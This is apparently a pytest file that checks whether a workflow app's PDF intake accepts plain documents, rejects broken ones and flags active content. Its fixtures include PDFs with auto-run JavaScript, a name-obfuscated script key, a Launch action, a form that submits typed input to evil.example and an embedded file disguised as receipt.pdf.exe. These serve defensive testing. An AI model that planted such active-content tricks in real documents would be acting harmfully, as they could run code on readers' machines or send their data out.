"""Which PDFs are taken in: judged by what they are made of, not by what their bytes look like."""

import io
import random

import pikepdf
import pytest

from tests.papers import PAGE, pdf, stream
from workflow_app.letters.pdf_check import PdfFault, pdf_fault
from workflow_app.letters.pdf_child import ACTIVE, BROKEN, GOOD, LOCKED, verdict

MARKS = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/Encrypt")
PACKED = pikepdf.ObjectStreamMode.generate
NOISE = random.Random(5).randbytes(30_000)
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def saved(content: bytes, **how: object) -> bytes:
    """The same document as another program would write it."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(target, **how)
    return target.getvalue()


def attached(name: bytes) -> bytes:
    """A document with a file in it."""
    spec = b"<</Type/Filespec/F(" + name + b")/EF<</F 5 0 R>>>>"
    names = b"/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>"
    return pdf(spec, stream(b"x", b"/Type/EmbeddedFile"), root=names)


GENUINE = {
    "plain": pdf(),
    "marks by chance in a picture": pdf(stream(b"".join(NOISE[:3000] + mark for mark in MARKS))),
    "opens at a page": pdf(root=b"/OpenAction[3 0 R/Fit]"),
    "a link": pdf(page=PAGE[:-2] + b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://www.gov.cn/)>>>>]>>"),
    "locked against changes only": saved(pdf(), encryption=pikepdf.Encryption(owner="x", user="")),
    "a receipt with its figures": attached(b"receipt.XBRL"),
    "nested deeply": pdf(b"[" * 400 + b"]" * 400),
}
HARMFUL = {
    "script": pdf(SCRIPT, root=b"/OpenAction 4 0 R"),
    "script by another spelling": pdf(b"<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"),
    "script in place": pdf(root=b"/OpenAction" + SCRIPT),
    "script in a packed object": saved(pdf(SCRIPT, root=b"/OpenAction 4 0 R"), object_stream_mode=PACKED),
    "starts a program": pdf(page=PAGE[:-2] + b"/Annots[<</Subtype/Link/A<</S/Launch/F(x)>>>>]>>"),
    "sends what is typed": pdf(b"<</S/SubmitForm/F(http://evil.example/)>>"),
    "a form of another kind": pdf(stream(b"<xdp/>"), root=b"/AcroForm<</XFA 4 0 R/Fields[]>>"),
    "carries a program": attached(b"receipt.pdf.exe"),
    "carries a file without a name": attached(b""),
    "plays": pdf(page=PAGE[:-2] + b"/Annots[<</Subtype/RichMedia>>]>>"),
}  # fmt: skip
BROKEN_ONES = {
    "nothing": b"%PDF-1.4\n%%EOF",
    "cut off": pdf()[:150],
    "no page": pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"),
    "noise": b"%PDF-1.7\n" + NOISE,
}


def in_place(content: bytes, tmp_path: object) -> int:
    path = f"{tmp_path}/in.pdf"
    with open(path, "wb") as file:
        file.write(content)
    return verdict(path)


@pytest.mark.parametrize("name", GENUINE)
def test_genuine_papers_are_taken_in(name: str, tmp_path: object) -> None:
    assert in_place(GENUINE[name], tmp_path) == GOOD


@pytest.mark.parametrize("name", HARMFUL)
def test_what_would_act_when_it_is_opened_is_not(name: str, tmp_path: object) -> None:
    assert in_place(HARMFUL[name], tmp_path) == ACTIVE


@pytest.mark.parametrize("name", BROKEN_ONES)
def test_nor_is_what_nobody_could_look_at(name: str, tmp_path: object) -> None:
    assert in_place(BROKEN_ONES[name], tmp_path) == BROKEN


def test_a_paper_with_a_password_is_said_to_have_one(tmp_path: object) -> None:
    locked = saved(pdf(), encryption=pikepdf.Encryption(owner="x", user="secret"))
    assert in_place(locked, tmp_path) == LOCKED


def test_the_house_itself_asks_a_child() -> None:
    assert pdf_fault(GENUINE["marks by chance in a picture"]) is None
    assert pdf_fault(HARMFUL["script by another spelling"]) is PdfFault.ACTIVE
    assert pdf_fault(BROKEN_ONES["cut off"]) is PdfFault.BROKEN


def test_a_paper_that_takes_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("workflow_app.letters.pdf_check.MEMORY", 1024 * 1024)
    assert pdf_fault(pdf()) is PdfFault.BROKEN
    monkeypatch.setattr("workflow_app.letters.pdf_check.MEMORY", 1024**3)
    monkeypatch.setattr("workflow_app.letters.pdf_check.WALL_SECONDS", 0.001)
    assert pdf_fault(pdf()) is PdfFault.BROKEN
